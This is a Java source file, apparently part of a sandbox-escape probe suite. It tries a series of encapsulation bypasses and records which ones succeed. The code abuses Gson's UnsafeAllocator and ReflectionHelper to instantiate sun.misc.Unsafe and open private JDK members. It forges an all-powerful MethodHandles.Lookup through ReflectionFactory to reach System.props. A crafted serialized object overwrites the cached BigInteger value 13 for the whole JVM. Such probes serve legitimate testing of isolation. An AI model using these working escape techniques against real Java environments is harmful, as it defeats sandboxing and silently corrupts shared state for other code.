// Objects without their constructors, by those who can make them: gson, serialization, java.beans.
package hostile.escape;

import static hostile.escape.Escape.attempt;

import com.google.gson.Gson;
import com.google.gson.JsonObject;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.io.Serializable;
import java.lang.invoke.MethodHandle;
import java.lang.invoke.MethodHandles;
import java.lang.reflect.Constructor;
import java.lang.reflect.Method;
import java.math.BigInteger;
import java.util.Properties;
import sun.reflect.ReflectionFactory;

final class Makers {
    private static final String ALLOCATOR = "com.google.gson.internal.UnsafeAllocator";

    /** The JDK keeps one object for it. */
    static final int NUMBER = 13;

    private Makers() {}

    static void all(JsonObject result) {
        Class<?> lane = Thread.currentThread().getClass();
        attempt(result, "unsafeByGson", () -> new Gson().fromJson("{}", Class.forName("sun.misc.Unsafe")));
        attempt(result, "unsafeByAllocator", () -> allocated(Class.forName("sun.misc.Unsafe")));
        attempt(result, "unsafeUsed", () -> {
            Object unsafe = allocated(Class.forName("sun.misc.Unsafe"));
            return unsafe.getClass().getMethod("addressSize").invoke(unsafe);
        });
        attempt(result, "laneByGson", () -> new Gson().fromJson("{}", lane));
        attempt(result, "laneByAllocator", () -> allocated(lane));
        attempt(result, "groupByGson", () -> new Gson().fromJson("{}", Thread.currentThread().getThreadGroup().getClass()));
        attempt(result, "loaderByGson", () -> new Gson().fromJson("{}", Makers.class.getClassLoader().getClass()));
        attempt(result, "readByGson", () -> {
            String text = new Gson().toJson(Makers.class.getClassLoader(), Makers.class.getClassLoader().getClass());
            return text.length() > 2 ? text : null;
        });
        for (Class<?> type : new Class<?>[] {Thread.class, ClassLoader.class, Module.class, java.util.Random.class, java.lang.invoke.MethodHandles.Lookup.class}) {
            attempt(result, "opened" + type.getSimpleName() + "ByGson", () -> opened(type));
        }
        attempt(result, "lookupOfAll", () -> {
            Class<?> type = MethodHandles.Lookup.class;
            Constructor<?> constructor = ReflectionFactory.getReflectionFactory().newConstructorForSerialization(type,
                    type.getDeclaredConstructor(Class.class, Class.class, int.class));
            // With rights to everything.
            return ((MethodHandles.Lookup) constructor.newInstance(Object.class, null, -1)).findStaticVarHandle(System.class, "props", Properties.class);
        });
        attempt(result, "privateOfAbove", () -> ReflectionFactory.getReflectionFactory()
                .newConstructorForSerialization(Own.class, ThreadGroup.class.getDeclaredConstructor()));
        attempt(result, "numberOfAll", () -> {
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            new ObjectOutputStream(bytes).writeObject(new Forged());
            new ObjectInputStream(new ByteArrayInputStream(bytes.toByteArray())).readObject();
            return BigInteger.valueOf(NUMBER);
        });
        for (String name : new String[] {"readObjectForSerialization", "writeObjectForSerialization", "readResolveForSerialization",
            "writeReplaceForSerialization", "readObjectNoDataForSerialization", "defaultReadObjectForSerialization", "defaultWriteObjectForSerialization"}) {
            attempt(result, name, () -> ReflectionFactory.class.getMethod(name, Class.class)
                    .invoke(ReflectionFactory.getReflectionFactory(), java.util.Locale.class));
        }
        attempt(result, "accessorByGson", () -> {
            Class<?> helper = Class.forName("com.google.gson.internal.reflect.ReflectionHelper");
            Method method = helper.getMethod("makeAccessible", java.lang.reflect.AccessibleObject.class);
            java.lang.reflect.Field field = lane.getDeclaredField("seat");
            method.invoke(null, field);
            return field.get(Thread.currentThread());
        });
    }

    /** A private field or method of the JDK that gson has opened. */
    private static Object opened(Class<?> type) throws ReflectiveOperationException {
        Method open = Class.forName("com.google.gson.internal.reflect.ReflectionHelper").getMethod("makeAccessible", java.lang.reflect.AccessibleObject.class);
        Throwable last = null;
        for (java.lang.reflect.AccessibleObject member : type.getDeclaredMethods()) {
            try {
                if (java.lang.reflect.Modifier.isPrivate(((java.lang.reflect.Member) member).getModifiers())) {
                    open.invoke(null, member);
                    return member;
                }
            } catch (java.lang.reflect.InvocationTargetException refused) {
                last = refused;
            }
        }
        throw new IllegalStateException(last);
    }

    private static Object allocated(Class<?> type) throws ReflectiveOperationException {
        Class<?> allocator = Class.forName(ALLOCATOR);
        Object instance = allocator.getField("INSTANCE").get(null);
        return allocator.getMethod("newInstance", Class.class).invoke(instance, type);
    }

    private static final class Own extends ThreadGroup {
        Own() {
            super("own");
        }
    }

    /** While it is read, the JDK's number reads itself from the same fields, and is another one then, for all. */
    private static final class Forged implements Serializable {
        private static final long serialVersionUID = 1;
        private final int signum = 1;
        private final byte[] magnitude = {NUMBER + 1};

        private void readObject(ObjectInputStream in) throws Throwable {
            MethodHandle reads = ReflectionFactory.getReflectionFactory().readObjectForSerialization(BigInteger.class);
            reads.invoke(BigInteger.valueOf(NUMBER), in);
        }
    }
}
